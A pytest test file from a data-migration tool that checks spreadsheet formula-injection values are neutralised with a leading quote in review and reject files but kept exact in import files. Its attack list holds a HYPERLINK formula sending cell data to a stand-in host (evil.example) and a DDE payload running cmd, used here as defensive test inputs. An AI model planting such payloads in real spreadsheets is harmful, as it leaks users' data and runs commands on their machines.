"""Formulas in the customer's data: neutralised in files for people, kept exactly in the import files."""
from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from stx_migrate.migration.dedup.review import write_review_workbook
from stx_migrate.migration.format import extended_format
from stx_migrate.migration.secutix_file import read_secutix_file, write_secutix_file
from stx_migrate.migration.spreadsheet_safe import neutralise_cells
from stx_migrate.migration.validate import validate_file

CODES = extended_format().layout()
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx=1", "\rx=1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_each_trigger_gets_a_leading_quote_and_nothing_else_changes(value):
    frame = pd.DataFrame({"value": pd.Series([value, "Müller", "", None], dtype="str"), "n": [1, 2, 3, 4]})
    out = neutralise_cells(frame)
    assert out["value"].tolist()[0] == "'" + value
    assert out["value"].tolist()[1:3] == ["Müller", ""] and pd.isna(out["value"].tolist()[3])
    assert out["n"].tolist() == [1, 2, 3, 4] and frame["value"].tolist()[0] == value   # the input is not modified


def _secutix_frame(values: list[str]) -> pd.DataFrame:
    frame = pd.DataFrame({c: pd.Series([""] * len(values), dtype="str") for c in CODES})
    frame["INSTITUTION"], frame["ORGANIZATION"], frame["LASTNAME"] = "DEMO", "DEMO", "Martin"
    frame["FIRSTNAME"] = values
    frame["EMAIL1"] = values   # not e-mail addresses: every row is rejected with its value quoted
    return frame


def test_rejects_csv_is_safe_and_the_import_file_is_faithful(tmp_path):
    source = tmp_path / "contacts.csv"
    write_secutix_file(_secutix_frame(ATTACKS), source)
    assert read_secutix_file(source).frame["FIRSTNAME"].tolist() == ATTACKS   # the import file keeps the value
    xlsx = tmp_path / "contacts.xlsx"
    write_secutix_file(_secutix_frame(ATTACKS), xlsx)
    assert read_secutix_file(xlsx).frame["FIRSTNAME"].tolist() == ATTACKS
    validate_file(source, tmp_path / "report")
    with open(tmp_path / "report" / "rejects.csv", encoding="utf-8", newline="") as f:
        values = [row["value"] for row in csv.DictReader(f) if row["column"] == "EMAIL1"]
    assert sorted(values) == sorted("'" + v for v in ATTACKS)


def test_review_workbook_cells_are_safe_but_its_keys_are_exact(tmp_path):
    from stx_migrate.migration.dedup import ReviewDecisions
    from stx_migrate.migration.dedup.result import DedupResult

    records = pd.DataFrame({"LASTNAME": ["=1+1", "Martin"], "FIRSTNAME": ["@x", "Zoé"]}, index=pd.Index(["c:1", "c:2"]))
    pairs = pd.DataFrame({"left_ref": ["c:1"], "right_ref": ["c:2"], "left_key": ["-k1"], "right_key": ["k2"],
                          "score": [0.8], "rule": ["fuzzy"]})
    result = DedupResult(survivors=records, duplicates=pd.DataFrame(), review_pairs=pairs,
                         identities=pd.Series([], dtype="str"), decisions=ReviewDecisions())
    path = write_review_workbook(result, records, tmp_path / "review.xlsx")
    sheet = openpyxl.load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]]))
    assert row["LASTNAME 1"] == "'=1+1" and row["FIRSTNAME 1"] == "'@x" and row["LASTNAME 2"] == "Martin"
    assert row["key 1"] == "-k1"   # read back to apply the decision: never changed
